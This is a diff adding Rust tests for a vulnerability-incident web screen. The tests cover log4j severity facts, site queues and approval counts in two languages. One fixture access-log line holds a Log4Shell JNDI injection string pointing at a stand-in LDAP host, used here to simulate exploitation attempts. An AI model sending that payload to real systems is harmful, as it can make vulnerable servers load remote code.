@@ -1,0 +1,139 @@
+//! The incident screen over a register: how bad it is, what waits for whom, and where the rows of
+//! what is next lead.
+
+use relight_engine::Inventory;
+use relight_engine::import::{ImportOptions, import};
+use relight_engine::incident::EvidenceKind;
+use relight_engine::watch::Feed;
+use relight_model::{Basis, Component, Digest, GateKey, Purl, Sbom, Scope};
+
+use crate::door_support::{START, World, clock, person};
+use crate::web_acts::{behind_an_edge, decide, open_incident, propose};
+
+/// The chance of one flaw on one day.
+const CHANCES: &str = "#model_version:v,score_date:2027-01-14T00:00:00Z\ncve,epss,percentile\n\
+    CVE-2021-44228,0.975,0.999\n";
+
+/// A world with an incident, and the cookies of a commander, an approver and a viewer.
+fn start(clock: fn() -> i64) -> (World, [String; 3]) {
+    let mut people = <[String; 3]>::default();
+    let world = World::start(clock, |store| {
+        behind_an_edge(store);
+        people = [
+            person(store, "chief", 1, &[("commander", "/")]),
+            person(store, "zoe", 2, &[("approver", "/")]),
+            person(store, "anna", 3, &[("viewer", "/")]),
+        ];
+    });
+    open_incident(&world, &people[0]);
+    (world, people)
+}
+
+/// Reads what is deployed at a site: this version of log4j-core, or nothing.
+fn deploy(world: &World, site: &str, version: &str) {
+    let purl = Purl::new("maven", "org.apache.logging.log4j", "log4j-core", version);
+    let component = Component::new(purl, "log4j.jar", Basis::PomProperties, Scope::Installed);
+    let sbom = Sbom {
+        components: if version.is_empty() { Vec::new() } else { vec![component] },
+        flaws: Vec::new(),
+        artifact: Some(Digest([version.len().to_be_bytes()[7]; 32])),
+        tool: "relight test".into(),
+    };
+    let (site, observed_at) = (GateKey::new(site).unwrap(), world.engine.now());
+    let inventory = Inventory { site, sbom, observed_at, profiles: None };
+    world.engine.ingest("scanner", &[inventory], EvidenceKind::Scan).unwrap();
+}
+
+/// The first line below the heading of the screen.
+fn facts(page: &str) -> String {
+    let rest = page.split("</h1>").nth(1).unwrap().split("<b>").nth(1).unwrap_or_default();
+    rest.split("</b>").next().unwrap().to_owned()
+}
+
+/// Goal: the head says how bad it is and whether it is used. Method: chances and attempts come one
+/// after the other, and are read again after a while.
+#[test]
+fn the_head_says_how_bad_it_is() {
+    clock!(now, now_set);
+    now_set(START);
+    let (world, [chief, ..]) = start(now);
+    let told = |lang: &str| facts(&world.get(&format!("/?lang={lang}"), &chief).2);
+    assert_eq!(told("en"), "CVSS 10.0 · KEV");
+    let store = &world.store;
+    let file = store.path().with_file_name("epss.csv");
+    std::fs::write(&file, CHANCES).unwrap();
+    let options = ImportOptions { now: START, ..ImportOptions::default() };
+    import(store, &[file], &options, &mut |_, _| ()).unwrap();
+    let line = "203.0.113.9 - - [14/Jan/2027:12:00:00 +0000] \
+                \"GET /?q=${jndi:ldap://x.test/a} HTTP/1.1\" 200 12 \"-\" \"-\"\n";
+    for site in store.sites().unwrap() {
+        let feed = Feed { org: site.org, site: Some(site.id), ..Feed::default() };
+        world.engine.ingest_log(&feed, std::io::Cursor::new(line)).unwrap();
+    }
+    assert_eq!(told("en"), "CVSS 10.0 · KEV", "read ten minutes ago at most");
+    now_set(START + 601);
+    assert_eq!(told("en"), "CVSS 10.0 · KEV · EPSS 97.5% · attempts at 2 organisations");
+    let french = "CVSS 10,0 · KEV · EPSS 97,5\u{a0}% · tentatives chez 2 organismes";
+    assert_eq!(told("fr"), french);
+    world.web.stop();
+}
+
+/// Goal: a row of what is next leads to exactly its sites. Method: sites in several rows, with
+/// filters that people type, in both languages; and names that no row has.
+#[test]
+fn rows_of_what_is_next_lead_to_their_sites() {
+    clock!(now, now_set);
+    now_set(START);
+    let (world, [chief, zoe, anna]) = start(now);
+    propose(&world, &chief, "care+beds");
+    assert_eq!(decide(&world, &zoe, "A-0001", "decision=approve").0, 303);
+    deploy(&world, "care", "2.14.1");
+    deploy(&world, "care", "2.17.1");
+    let page = world.get("/?lang=en", &chief).2;
+    let queue = page.split("panel queue").nth(1).unwrap().split("</section>").next().unwrap();
+    assert!(queue.contains("href=\"/sites?lang=en&#38;queue=unverified\""), "{queue}");
+    let listed = |query: &str| {
+        let (status, _, page) = world.get(&format!("/sites?lang=en{query}"), &anna);
+        assert_eq!(status, 200, "{query}: {page}");
+        let rows = page.split("<tr id=\"site-").skip(1);
+        let slug =
+            |row: &str| row.split("\">").nth(3).unwrap().split('<').next().unwrap().to_owned();
+        (rows.map(slug).collect::<Vec<_>>(), page)
+    };
+    let (rows, page) = listed("&queue=unverified");
+    assert_eq!(rows, ["care"], "{page}");
+    assert!(
+        page.contains("Show all sites") && page.contains("name=\"queue\" value=\"unverified\"")
+    );
+    assert!(page.contains("&#38;queue=unverified\" lang=\"fr\""), "the other language keeps it");
+    assert_eq!(listed("&queue=unverified&q=beds").0, [""; 0]);
+    assert_eq!(listed("&queue=unverified&q=care").0, ["care"]);
+    for all in ["", "&queue=", "&queue=nothing"] {
+        let (rows, page) = listed(all);
+        assert_eq!(rows.len(), 3, "{all}");
+        assert!(!page.contains("Show all sites"), "{all}");
+    }
+    let rows = world.get("/sites/rows?lang=en&queue=unverified", &anna).2;
+    assert!(rows.contains("\"care\"") && !rows.contains("\"beds\""), "{rows}");
+    world.web.stop();
+}
+
+/// Goal: whoever is asked for agreement sees how much is missing. Method: one plan, then two.
+#[test]
+fn a_plan_that_waits_says_how_many_agreed() {
+    clock!(now, now_set);
+    now_set(START);
+    let (world, [chief, zoe, anna]) = start(now);
+    let waits = |cookie: &str, lang: &str| {
+        let page = world.get(&format!("/?lang={lang}"), cookie).2;
+        let link = page.split("class=\"button wait\"").nth(1).unwrap_or_default().to_owned();
+        link.split('>').nth(1).unwrap_or_default().split('<').next().unwrap().to_owned()
+    };
+    assert_eq!(waits(&zoe, "en"), "");
+    propose(&world, &chief, "care");
+    assert_eq!(waits(&zoe, "en"), "A-0001 waits: 1 of 2 agreed");
+    assert_eq!(waits(&anna, "fr"), "A-0001 attend\u{a0}: 1 accord sur 2");
+    propose(&world, &chief, "beds");
+    assert_eq!(waits(&zoe, "en"), "2 plans wait for agreement");
+    world.web.stop();
+}
